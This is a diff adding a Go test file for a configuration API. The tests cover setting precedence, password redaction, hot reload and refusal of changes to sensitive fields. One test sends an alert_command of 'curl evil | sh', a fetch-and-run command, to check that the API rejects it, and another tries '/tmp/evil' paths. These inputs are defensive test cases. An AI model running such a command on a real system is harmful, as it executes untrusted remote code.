@@ -0,0 +1,190 @@
+package main
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// useConfig points the config store at a temporary file holding file's
+// settings, restoring the previous store when the test ends.
+func useConfig(t *testing.T, file Config) *ConfigStore {
+	t.Helper()
+	old := config
+	config = NewConfigStore(filepath.Join(t.TempDir(), "config.json"))
+	t.Cleanup(func() { config = old })
+	if err := config.Save(file); err != nil {
+		t.Fatalf("Save config: %v", err)
+	}
+	return config
+}
+
+func TestResolveConfigPrecedence(t *testing.T) {
+	file := Config{Port: 9000, Host: "0.0.0.0", DirSizeTimeout: Duration{5 * time.Second}, AuthUser: "file"}
+	env := Config{Port: 9100, AuthUser: "env"}
+	flags := Config{Port: 9200}
+
+	c, sources := resolveConfig(file, env, flags)
+	if c.Port != 9200 || sources["port"] != "flag" {
+		t.Errorf("port = %d from %s", c.Port, sources["port"])
+	}
+	if c.AuthUser != "env" || sources["auth_user"] != "env" {
+		t.Errorf("auth_user = %q from %s", c.AuthUser, sources["auth_user"])
+	}
+	if c.Host != "0.0.0.0" || sources["host"] != "file" {
+		t.Errorf("host = %q from %s", c.Host, sources["host"])
+	}
+	if c.LargeFileThreshold != 100*1024*1024 || sources["large_file_threshold"] != "default" {
+		t.Errorf("large_file_threshold = %d from %s", c.LargeFileThreshold, sources["large_file_threshold"])
+	}
+
+	if c, _ := resolveConfig(Config{TLSCert: "c.pem", TLSKey: "k.pem"}, Config{}, Config{}); !*c.TLS {
+		t.Error("a certificate should enable TLS")
+	}
+	if err := (Config{TLSCert: "c.pem"}).Validate(); err == nil {
+		t.Error("expected error for cert without key")
+	}
+	if err := (Config{PurgeTargets: []string{"../x"}}).Validate(); err == nil {
+		t.Error("expected error for purge target with a slash")
+	}
+}
+
+func TestConfigSaveKeepsRedactedPasswordAndReportsRestart(t *testing.T) {
+	store := useConfig(t, Config{AuthUser: "admin", AuthPass: "secret"})
+	startup := *currentConfig()
+
+	data, _ := os.ReadFile(store.path)
+	if info, _ := os.Stat(store.path); info.Mode().Perm() != 0600 {
+		t.Errorf("config mode = %v", info.Mode().Perm())
+	}
+	if !strings.Contains(string(data), `"auth_pass": "secret"`) {
+		t.Fatalf("unexpected file:\n%s", data)
+	}
+
+	// PUT what GET returned, with a new port and size timeout
+	body := `{"auth_user": "admin", "auth_pass": "********", "port": 9090, "dir_size_timeout": "45s"}`
+	req := httptest.NewRequest(http.MethodPut, "/api/config", strings.NewReader(body))
+	rec := httptest.NewRecorder()
+	oldStartup := startupConfig
+	startupConfig = startup
+	t.Cleanup(func() { startupConfig = oldStartup })
+	handleConfig(rec, req)
+	if rec.Code != http.StatusOK {
+		t.Fatalf("PUT: %d %s", rec.Code, rec.Body)
+	}
+
+	var resp ConfigResponse
+	json.NewDecoder(rec.Body).Decode(&resp)
+	if resp.Effective.AuthPass != redactedPassword || resp.Effective.DirSizeTimeout.Duration != 45*time.Second {
+		t.Errorf("effective = %+v", resp.Effective)
+	}
+	if len(resp.RestartRequired) != 1 || resp.RestartRequired[0] != "port" {
+		t.Errorf("restart_required = %v", resp.RestartRequired)
+	}
+	if currentConfig().AuthPass != "secret" {
+		t.Error("redacted password overwrote the stored one")
+	}
+	if currentConfig().DirSizeTimeout.Duration != 45*time.Second {
+		t.Error("size timeout not applied")
+	}
+
+	req = httptest.NewRequest(http.MethodPut, "/api/config", strings.NewReader(`{"prot": 1}`))
+	rec = httptest.NewRecorder()
+	handleConfig(rec, req)
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("unknown field: got %d", rec.Code)
+	}
+}
+
+func TestConfigSaveRefusesAlertCommandChanges(t *testing.T) {
+	store := useConfig(t, Config{})
+	if err := os.WriteFile(store.path, []byte(`{"alert_command": "say alert"}`), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	put := func(body string) int {
+		rec := httptest.NewRecorder()
+		handleConfig(rec, httptest.NewRequest(http.MethodPut, "/api/config", strings.NewReader(body)))
+		return rec.Code
+	}
+	if code := put(`{"alert_command": "curl evil | sh"}`); code != http.StatusBadRequest {
+		t.Errorf("changed command: got %d", code)
+	}
+	if code := put(`{"port": 9090}`); code != http.StatusBadRequest {
+		t.Errorf("dropped command: got %d", code)
+	}
+	if code := put(`{"alert_command": "say alert", "port": 9090}`); code != http.StatusOK {
+		t.Errorf("unchanged command: got %d", code)
+	}
+	if file, _, _ := store.readFile(); file.AlertCommand != "say alert" || file.Port != 9090 {
+		t.Errorf("file = %+v", file)
+	}
+}
+
+func TestConfigSaveRefusesMoleDirAndTLSChanges(t *testing.T) {
+	store := useConfig(t, Config{})
+	if err := os.WriteFile(store.path, []byte(`{"mole_dir": "/opt/mole", "tls_cert": "/etc/mole/cert.pem", "tls_key": "/etc/mole/key.pem"}`), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	put := func(body string) int {
+		rec := httptest.NewRecorder()
+		handleConfig(rec, httptest.NewRequest(http.MethodPut, "/api/config", strings.NewReader(body)))
+		return rec.Code
+	}
+	for _, body := range []string{
+		`{"mole_dir": "/tmp/evil", "tls_cert": "/etc/mole/cert.pem", "tls_key": "/etc/mole/key.pem"}`,
+		`{"mole_dir": "/opt/mole", "tls_cert": "/tmp/cert.pem", "tls_key": "/etc/mole/key.pem"}`,
+		`{"mole_dir": "/opt/mole", "tls_cert": "/etc/mole/cert.pem", "tls_key": "/tmp/key.pem"}`,
+	} {
+		if code := put(body); code != http.StatusBadRequest {
+			t.Errorf("%s: got %d", body, code)
+		}
+	}
+	if code := put(`{"mole_dir": "/opt/mole", "tls_cert": "/etc/mole/cert.pem", "tls_key": "/etc/mole/key.pem", "port": 9090}`); code != http.StatusOK {
+		t.Errorf("unchanged paths: got %d", code)
+	}
+	if file, _, _ := store.readFile(); file.MoleDir != "/opt/mole" || file.Port != 9090 {
+		t.Errorf("file = %+v", file)
+	}
+}
+
+func TestConfigHotReloadAppliesPurgeTargets(t *testing.T) {
+	useTempConfig(t)
+	store := useConfig(t, Config{})
+
+	root := t.TempDir()
+	os.MkdirAll(filepath.Join(root, "app", "dist"), 0755)
+	os.MkdirAll(filepath.Join(root, "app", "Pods"), 0755)
+	if items := scanForPurge(root); len(items) != 1 || items[0].Type != "dist" {
+		t.Fatalf("default targets: %+v", items)
+	}
+
+	// Edit the file directly, as a user would, and let the watcher notice
+	os.WriteFile(store.path, []byte(`{"purge_targets": ["Pods"]}`), 0600)
+	future := time.Now().Add(time.Second)
+	os.Chtimes(store.path, future, future)
+	if !store.changed() {
+		t.Fatal("change not detected")
+	}
+	if err := store.Load(); err != nil {
+		t.Fatalf("Load: %v", err)
+	}
+	if items := scanForPurge(root); len(items) != 1 || items[0].Type != "Pods" {
+		t.Fatalf("configured targets: %+v", items)
+	}
+
+	// A broken file leaves the previous settings in place
+	os.WriteFile(store.path, []byte(`{"purge_targets": [`), 0600)
+	if err := store.Load(); err == nil {
+		t.Fatal("expected parse error")
+	}
+	if targets := currentConfig().PurgeTargets; len(targets) != 1 || targets[0] != "Pods" {
+		t.Errorf("targets after bad reload = %v", targets)
+	}
+}